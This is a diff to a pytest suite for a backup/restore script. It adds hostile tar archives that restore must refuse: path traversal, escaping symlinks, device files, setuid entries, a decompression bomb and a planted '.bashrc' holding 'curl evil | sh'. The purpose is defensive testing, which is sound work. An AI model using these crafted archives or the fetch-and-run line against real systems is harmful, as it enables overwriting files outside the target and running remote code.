@@ -4,7 +4,9 @@ The artifacts follow the real layout (one real checkpoint from make_tiny_checkpo
 files under <phase dir>/<tag>/step_NNNNNN/), and every check compares trees byte for byte.
 """
 
+import gzip
 import hashlib
+import io
 import os
 import shutil
 import stat
@@ -116,6 +118,10 @@ def test_status_lists_phases_with_latest_steps(ws):
 
 def test_backup_cleanup_restore_round_trip_byte_for_byte(ws):
     art = ws / "nanochat_artifacts"
+    run1 = art / "logs" / "run1"
+    (run1 / "base").mkdir()
+    (run1 / "base" / "base_data").symlink_to(art / "base_data")  # dev/launch.sh --test's absolute links
+    os.link(run1 / "console.log", run1 / "console_hardlink.log")  # archived as a copy, not a link
     before = {k: v for k, v in snapshot(art).items() if not not_archived(k)}
     report = (ws / "nanochat_final_report.md").read_bytes()
 
@@ -126,6 +132,7 @@ def test_backup_cleanup_restore_round_trip_byte_for_byte(ws):
     assert check.returncode == 0, check.stdout + check.stderr
     with tarfile.open(ws / "backups" / "b1.tar.gz") as tar:
         names = tar.getnames()
+        assert not [m.name for m in tar if m.islnk()]
     assert "artifacts/base_checkpoints/d4/step_000200/model.safetensors" in names
     assert "nanochat_final_report.md" in names and "BACKUP_INFO" in names
     assert not [n for n in names if not_archived(n)]
@@ -285,3 +292,125 @@ def test_no_or_unknown_command_prints_usage_and_exits_2(ws, args):
     proc = run(ws, *args)
     assert proc.returncode == 2
     assert "usage: bash runpod_storage.sh COMMAND" in proc.stderr
+
+
+# ----------------------------------------------------------------------------- hostile archives
+
+
+def entry(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", mode: int = 0o644, link: str = "",
+          dev: tuple[int, int] = (0, 0)) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.type, info.mode, info.linkname, info.mtime = kind, mode, link, int(time.time())
+    info.devmajor, info.devminor = dev
+    info.size = len(data) if kind == tarfile.REGTYPE else 0
+    return info, data
+
+
+def hostile_archive(ws: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
+    """elsewhere/evil.tar.gz holding a plausible tree plus `members`, with a matching .sha256 beside it."""
+    path = ws / "elsewhere" / "evil.tar.gz"
+    path.parent.mkdir(exist_ok=True)
+    plausible = [entry("artifacts", tarfile.DIRTYPE, mode=0o755), entry("artifacts/tokenizer", tarfile.DIRTYPE, mode=0o755),
+                 entry("artifacts/tokenizer/tokenizer.json", data=b"{}")]
+    with tarfile.open(path, "w:gz") as tar:
+        for info, data in ([] if members[0][0].name == "artifacts" else plausible) + members:
+            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    path.with_name(path.name + ".sha256").write_text(f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n")
+    return path
+
+
+def refused_without_change(ws: Path, tmp_path: Path, archive: Path, needle: str, env: dict | None = None) -> str:
+    """Restore `archive`: it must fail with one error line holding `needle`, every byte left as it was."""
+    tmpdir, outside = tmp_path / "tmpdir", tmp_path / "outside"
+    tmpdir.mkdir(exist_ok=True)
+    before, outside_before = snapshot(ws), snapshot(outside)
+    proc = run(ws, "restore", str(archive), "-y", env={"TMPDIR": str(tmpdir), **(env or {})})
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
+    assert needle in lines[0] and "nothing was changed" in lines[0], lines[0]
+    assert snapshot(ws) == before  # the archive, backups (no safety copy) and artifacts alike
+    assert snapshot(outside) == outside_before
+    assert os.listdir(tmpdir) == []  # no listing or temp dir left behind
+    return lines[0]
+
+
+@pytest.fixture
+def outside(tmp_path):
+    d = tmp_path / "outside"
+    write(d / "precious.txt", b"not yours to touch")
+    return d
+
+
+HOSTILE = {  # id -> (members, what the error names)
+    "top_level_symlink": (lambda out: [entry("artifacts", tarfile.SYMTYPE, link=str(out)),
+                                       entry("nanochat_final_report.md", data=b"# hi\n")],
+                          "symlink 'artifacts'"),
+    "symlink_out_absolute": (lambda out: [entry("artifacts/logs", tarfile.SYMTYPE, link=str(out))],
+                             "leaves the artifacts"),
+    "symlink_out_relative": (lambda out: [entry("artifacts/tokenizer/up", tarfile.SYMTYPE, link="../../../outside")],
+                             "leaves the artifacts"),
+    "file_under_symlink": (lambda out: [entry("artifacts/t", tarfile.SYMTYPE, link="tokenizer"),
+                                        entry("artifacts/t/x.json", data=b"{}")], "inside the symlink"),
+    "hardlink": (lambda out: [entry("artifacts/h", tarfile.LNKTYPE, link="artifacts/tokenizer/tokenizer.json")],
+                 "a hard link"),
+    "char_device": (lambda out: [entry("artifacts/null", tarfile.CHRTYPE, mode=0o666, dev=(1, 3))],
+                    "a character device"),
+    "block_device": (lambda out: [entry("artifacts/sda", tarfile.BLKTYPE, mode=0o660, dev=(8, 0))],
+                     "a block device"),
+    "fifo": (lambda out: [entry("artifacts/pipe", tarfile.FIFOTYPE)], "a FIFO"),
+    "setuid_file": (lambda out: [entry("artifacts/run.sh", data=b"#!/bin/sh\n", mode=0o4755)], "setuid"),
+    "setgid_dir": (lambda out: [entry("artifacts/shared", tarfile.DIRTYPE, mode=0o2775)], "setuid, setgid"),
+    "dot_component": (lambda out: [entry("artifacts/./x", data=b"x")], "unsafe path"),
+    "dotdot_component": (lambda out: [entry("artifacts/../x", data=b"x")], "unsafe path"),
+    "absolute_name": (lambda out: [entry(str(out / "x"), data=b"x")], "unsafe path"),
+    "twice": (lambda out: [entry("artifacts/tokenizer/tokenizer.json", data=b"[]")], "twice"),
+    "stray_top_level_file": (lambda out: [entry(".bashrc", data=b"curl evil | sh\n")], "not a runpod_storage.sh backup"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_archive_is_refused_and_nothing_changes(ws, tmp_path, outside, case):
+    members, needle = HOSTILE[case]
+    refused_without_change(ws, tmp_path, hostile_archive(ws, members(outside)), needle)
+
+
+def test_decompression_bomb_is_refused_by_ratio(ws, tmp_path):
+    """A ~1 MB archive declaring 1 GiB of zeros: gzip members concatenated (RFC 1952 2.2), built in ms."""
+    size = (1 << 30) + (1 << 20)
+    folder, zeros = entry("artifacts", tarfile.DIRTYPE, mode=0o755)[0], entry("artifacts/zeros.bin")[0]
+    zeros.size = size
+    path = ws / "elsewhere" / "bomb.tar.gz"
+    path.parent.mkdir()
+    one_mib = gzip.compress(bytes(1 << 20), compresslevel=9, mtime=0)
+    with open(path, "wb") as f:
+        f.write(gzip.compress(folder.tobuf() + zeros.tobuf(), mtime=0))
+        for _ in range(size >> 20):
+            f.write(one_mib)
+        f.write(gzip.compress(bytes(1024), mtime=0))  # the two zero blocks that end a tar archive
+    assert path.stat().st_size < 2 << 20
+    path.with_name("bomb.tar.gz.sha256").write_text(f"{hashlib.sha256(path.read_bytes()).hexdigest()}  bomb.tar.gz\n")
+    line = refused_without_change(ws, tmp_path, path, "decompression bomb")
+    assert "GiB from 1.0MiB" in line
+
+
+def test_archive_larger_than_the_free_space_is_refused(ws, tmp_path):
+    assert run(ws, "backup", "b1").returncode == 0
+    stub = tmp_path / "stub_bin"
+    stub.mkdir()
+    df = stub / "df"  # the volume as a nearly full one would report it: 1 MiB available
+    df.write_text("#!/bin/sh\necho 'Filesystem 1024-blocks Used Available Capacity Mounted on'\n"
+                  "echo 'fake 1048576 1047552 1024 99% /'\n")
+    df.chmod(0o755)
+    path = f"{stub}{os.pathsep}{os.environ['PATH']}"
+    line = refused_without_change(ws, tmp_path, ws / "backups" / "b1.tar.gz", "free space", env={"PATH": path})
+    assert "has 1.0MB" in line
+
+
+def test_artifacts_path_that_is_a_symlink_is_never_written_through(ws, tmp_path, outside):
+    assert run(ws, "backup", "b1").returncode == 0
+    art = ws / "nanochat_artifacts"
+    shutil.move(art, outside / "real_artifacts")
+    art.symlink_to(outside / "real_artifacts")
+    refused_without_change(ws, tmp_path, ws / "backups" / "b1.tar.gz", "is a symlink")
+    assert art.is_symlink()
